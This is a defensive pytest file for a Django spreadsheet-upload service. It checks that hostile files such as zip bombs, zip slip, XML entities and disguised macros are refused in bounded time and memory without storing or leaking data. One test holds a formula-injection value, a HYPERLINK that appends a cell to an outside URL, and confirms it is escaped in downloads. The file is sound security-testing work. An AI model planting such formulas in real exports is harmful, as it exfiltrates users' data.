"""Malformed and hostile files: each ends in a message, in bounded time and memory, with nothing stored and no figure wrong."""

import hashlib
import io
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import TemporaryUploadedFile
from django.db import DEFAULT_DB_ALIAS

from indicators.extracts import problems, service
from indicators.extracts.models import Extract, ProblemRow, extract_storage
from indicators.extracts.reading import Document, Unreadable
from indicators.extracts.reading.apart import read
from indicators.records.models import PublishedFigure
from tests.extracts.files import COLUMNS, csv_of, figure, ods_of, table_of, xlsx_of
from tests.extracts.traps import (
    MAIN,
    RELATIONS,
    SHEET,
    TRAPS,
    cells_of,
    changed,
    ods_with,
    sheet_of,
    with_parts,
)
from tests.extracts.visiting import SignedIn, send, words
from tests.extracts.ways import AS_AT, checked, load, numerators, upload
from wales_framework.jobs.progress import silent

SECONDS = 60  # for a machine that does other things too; each takes less than two when it does nothing else
MEMORY = 600  # MB of a process that reads a trap: the service itself takes a third of it


@pytest.fixture(autouse=True)
def files(own_files: Path) -> Path:
    return own_files


def read_bytes(content: bytes) -> Document:
    return read(io.BytesIO(content), len(content))


def cells(content: bytes) -> list[list[str]]:
    return [list(row.values()) for row in read_bytes(content).body.to_pylist()]


def past_the_door(content: bytes) -> Extract:
    """Checked as a spreadsheet is that is too large to be looked into while somebody waits."""
    stored = extract_storage().save("trap", ContentFile(content))
    digest = hashlib.sha256(content).hexdigest()
    extract = Extract.objects.create(name="trap.xlsx", file=stored, size=len(content), sha256=digest)
    service.declare(
        extract, None, source="published", first_period="1990Q1", last_period="2025Q4", as_at=AS_AT, in_background=False
    )
    service.check(extract.pk, silent)
    extract.refresh_from_db()
    return extract


@pytest.mark.django_db
class TestTraps:
    @pytest.mark.parametrize("trap", TRAPS)
    def test_each_is_refused_at_the_door_and_leaves_nothing(self, trap: str, files: Path) -> None:
        make, name = TRAPS[trap]
        content = make()
        started = time.monotonic()
        with pytest.raises(Unreadable) as caught:
            upload(content)
        assert time.monotonic() - started < SECONDS
        assert caught.value.name == name
        assert not Extract.objects.exists()
        assert not files.exists()

    @pytest.mark.parametrize("trap", TRAPS)
    def test_what_comes_by_the_door_is_refused_by_the_check(self, trap: str) -> None:
        make, name = TRAPS[trap]
        extract = past_the_door(make())
        assert extract.state == Extract.State.FAILED
        assert [problem.check_name for problem in extract.problems.all()] == [name]
        assert not PublishedFigure.objects.exists()
        for problem in extract.problems.all():
            assert problem.count == problem.places.count() >= 1
            assert "%(" not in problems.message(problem) + problems.guidance(problem)
            assert not any("%(" in problems.note(problems.outcome_of(problem, 1).words, place) for place in problem.places.all())


@pytest.mark.parametrize(
    "trap",
    [
        "ragged rows",
        "a byte 0",
        "half a workbook",
        "macros under the name of .xlsx",
        "zip slip",
        "entities in the sheet",
        "a cell far below and to the right",
        "a hidden first sheet",
        "merged cells",
        "a cell with an error",
        "a formula without its value",
    ],
)
def test_the_page_says_what_is_wrong_and_what_to_do(signed_in: SignedIn, trap: str) -> None:
    make, name = TRAPS[trap]
    response = send(signed_in("analyst"), make(), "figures.xlsx")
    assert response.status_code == 200
    assert str(Unreadable(name).words.message) in words(response)
    assert str(Unreadable(name).words.guidance) in words(response)
    assert "Traceback" not in response.content.decode()
    assert not Extract.objects.exists()


READ_THEM = """
import sys
import django
django.setup()
from indicators.extracts.reading import Unreadable
from indicators.extracts.reading.apart import read
for path in sys.argv[1:]:
    with open(path, "rb") as file:
        size = file.seek(0, 2)
        try:
            read(file, size)
        except Unreadable as error:
            print(error.name)
with open("/proc/self/status") as status:
    print(next(int(line.split()[1]) >> 10 for line in status if line.startswith("VmHWM")))
"""


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="only Linux tells how much memory a process took at most")
def test_no_trap_takes_the_memory_of_the_process_that_reads_it(tmp_path: Path) -> None:
    traps = {
        "a line of 200 MB",
        "headings of 200 MB",
        "a million columns",
        "a zip bomb",
        "an archive of 60,000 parts",
        "a cell far below and to the right",
        "one long text in 400,000 cells",
        "a row repeated 1,000,000,000 times",
        "wide cells in many repeated rows",
    }
    paths = []
    for number, trap in enumerate(sorted(traps)):
        paths.append(tmp_path / str(number))
        paths[-1].write_bytes(TRAPS[trap][0]())
    arguments = [sys.executable, "-c", READ_THEM, *map(str, paths)]
    done = subprocess.run(arguments, capture_output=True, text=True, timeout=SECONDS * len(traps), check=True)
    *names, megabytes = done.stdout.split()
    assert names == [TRAPS[trap][1] for trap in sorted(traps)]
    assert int(megabytes) < MEMORY


class TestNothingOfARowIsKept:
    SECRET = "P0099887"

    @pytest.mark.parametrize(
        "rest",
        [
            "{0},1980-02-29\n",  # ragged
            '"{0},1980-02-29\n' + "1,2,3\n" * 3,  # an open quotation mark
            "{0},1980-02-29,\udcff\n",  # no letter of any encoding, after one beyond ASCII
            '"{0}' + "\n" * (5 << 20),  # a cell of many megabytes
        ],
    )
    def test_not_in_the_refusal_nor_in_what_led_to_it(self, rest: str) -> None:
        content = ("person_id,date_of_birth,sêx\n1,2,3\n" + rest.format(self.SECRET)).encode(errors="surrogateescape")
        with pytest.raises(Unreadable) as caught:
            read_bytes(content)
        assert self.SECRET not in f"{caught.value} {caught.value.params}"
        # What Python would print of it: the causes that are not suppressed.
        assert caught.value.__cause__ is None
        assert caught.value.__suppress_context__ or caught.value.__context__ is None

    @pytest.mark.django_db
    def test_not_in_the_problems_of_an_extract(self) -> None:
        extract = past_the_door(csv_of([figure()]) + f"{self.SECRET},1980-02-29\r\n".encode())
        assert extract.state == Extract.State.FAILED
        assert [(place.row, place.column, place.value) for place in ProblemRow.objects.all()] == [(3, "", "")]
        assert not any(self.SECRET in str(line) for line in problems.lines(extract, DEFAULT_DB_ALIAS))


class TestPlaces:
    @pytest.mark.parametrize(
        ("trap", "row", "cell"),
        [
            ("a cell with an error", 3, "B3"),
            ("a formula with an error", 3, "B3"),
            ("an error in an OpenDocument", 3, "B3"),
            ("a formula without its value", 3, "B3"),
            ("a formula without its value in an OpenDocument", 3, "B3"),
        ],
    )
    def test_a_cell_in_doubt_is_named(self, trap: str, row: int, cell: str) -> None:
        with pytest.raises(Unreadable) as caught:
            read_bytes(TRAPS[trap][0]())
        assert (caught.value.row, caught.value.params["cell"]) == (row, cell)

    def test_what_a_file_calls_a_place_is_not_repeated_blindly(self) -> None:
        with pytest.raises(Unreadable) as caught:
            read_bytes(sheet_of('<row><c r="John Smith, born 1980" t="e"><v>#N/A</v></c></row>'))
        assert "John" not in str(caught.value.params)


class TestStrangeButRight:
    def test_three_hundred_columns_with_the_known_ones_among_them(self) -> None:
        columns = [*(f"other {number}" for number in range(290)), *COLUMNS]
        assert len(read_bytes(csv_of([figure()], columns)).headings) == 300
        assert read_bytes(csv_of([figure()], columns)).body.column("299").to_pylist() == ["A publication"]

    def test_the_value_that_a_formula_had_when_the_file_was_saved_is_taken(self) -> None:
        row = cells_of('<c t="str"><f>A1</f><v>women</v></c>', "<c><f>1+1</f><v>2</v></c>", '<c t="str"><f>B1</f><v></v></c>')
        assert cells(sheet_of(row))[1][:3] == ["women", "2", ""]
        ods = ods_with(
            '<table:table-row><table:table-cell table:formula="of:=1+1" office:value-type="float" office:value="2"/>'
            "</table:table-row>"
        )
        assert cells(ods)[1][0] == "2"

    def test_errors_and_formulas_of_other_sheets_do_not_matter(self) -> None:
        packed = sheet_of("", workbook=("</sheets>", '<sheet name="Notes" sheetId="2" r:id="r2"/></sheets>'))
        kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
        relation = f'<Relationship Id="r2" Type="{kind}" Target="worksheets/sheet2.xml"/></Relationships>'
        packed = changed(packed, RELATIONS, "</Relationships>", relation)
        notes = f'<worksheet xmlns="{MAIN}"><sheetData><row><c t="e"><v>#REF!</v></c></row></sheetData></worksheet>'
        assert len(cells(with_parts(packed, xl__worksheets__sheet2_dot_xml=notes))) == 1

    @pytest.mark.parametrize(
        ("system", "day"),
        [("", "2023-03-15"), ('<workbookPr date1904="1"/>', "2027-03-16"), ('<workbookPr date1904="0"/>', "2023-03-15")],
    )
    def test_dates_come_out_right_in_both_date_systems(self, system: str, day: str) -> None:
        styles = f'<styleSheet xmlns="{MAIN}"><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>'
        kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles"
        packed = sheet_of(
            cells_of('<c s="1"><v>45000</v></c>', "<c><v>45000</v></c>"), workbook=("<sheets>", f"{system}<sheets>")
        )
        packed = changed(
            packed, RELATIONS, "</Relationships>", f'<Relationship Id="r2" Type="{kind}" Target="styles.xml"/></Relationships>'
        )
        # A number without a date's format stays the number that it is: the column's own check says that it is no date.
        assert cells(with_parts(packed, xl__styles_dot_xml=styles))[1][:2] == [day, "45000"]

    def test_a_claimed_size_of_the_sheet_is_not_believed(self) -> None:
        packed = changed(xlsx_of(table_of([figure()])), SHEET, "<sheetData>", '<dimension ref="A1:XFD1000000000"/><sheetData>')
        assert len(cells(packed)) == 1

    def test_hidden_rows_and_columns_are_read_like_others(self) -> None:
        packed = sheet_of('<row hidden="1"><c><v>7</v></c></row>')
        packed = changed(packed, SHEET, "<sheetData>", '<cols><col min="1" max="1" hidden="1"/></cols><sheetData>')
        assert cells(packed)[1][0] == "7"

    def test_the_empty_rest_of_an_opendocument_sheet_costs_nothing(self) -> None:
        rest = (
            '<table:table-row table:number-rows-repeated="1048000"><table:table-cell table:number-columns-repeated="16384"/>'
            "</table:table-row>"
        )
        assert len(cells(ods_with(rest))) == 1

    @pytest.mark.django_db
    def test_a_spreadsheet_that_is_called_csv_and_the_other_way_round(self) -> None:
        for content, name in ((xlsx_of(table_of([figure()])), "figures.csv"), (csv_of([figure()]), "figures.xlsx")):
            extract = service.receive(io.BytesIO(content), name, None)
            assert service.guess(extract).headings == tuple(COLUMNS)


@pytest.mark.django_db
def test_texts_that_a_spreadsheet_would_run_are_data_here_and_harmless_in_downloads() -> None:
    formula = '=HYPERLINK("http://example.org/"&A1,"x")'
    assert cells(csv_of([figure(source=formula)]))[0][-1] == formula
    extract = checked(csv_of([figure(cohort=formula)]))
    values = [str(cell) for line in problems.lines(extract, DEFAULT_DB_ALIAS) for cell in line]
    assert f"'{formula}" in values
    assert not any(value.startswith(("=", "+", "@")) for value in values)


@pytest.mark.django_db
def test_a_trap_changes_nothing_of_what_counts() -> None:
    load([figure()])
    before = numerators()
    for trap in ("entities in the sheet", "a cell far below and to the right", "ragged rows"):
        with pytest.raises(Unreadable):
            upload(TRAPS[trap][0]())
    assert numerators() == before


@pytest.mark.parametrize("write", [xlsx_of, ods_of])
def test_a_file_on_disk_is_read_the_same_after_the_reader_had_it(write: Callable[..., bytes], tmp_path: Path) -> None:
    path = tmp_path / "file"
    path.write_bytes(write([["a", "b"], *[["1", "2"]] * 500]))
    with path.open("rb") as file:
        for _ in range(2):
            assert read(file, path.stat().st_size).body.num_rows == 500
        file.seek(0)
        assert file.read() == path.read_bytes()


@pytest.mark.django_db
def test_an_upload_is_moved_into_its_place(files: Path) -> None:
    content = csv_of([figure()])
    with TemporaryUploadedFile("figures.csv", "text/csv", len(content), None) as waiting:
        waiting.write(content)
        waiting.seek(0)
        number = Path(waiting.temporary_file_path()).stat().st_ino
        same_disk = Path(waiting.temporary_file_path()).stat().st_dev == files.parent.stat().st_dev
        extract = service.receive(waiting, "figures.csv", None)
    stored = files / str(extract.file.name)
    assert stored.read_bytes() == content
    assert not same_disk or stored.stat().st_ino == number
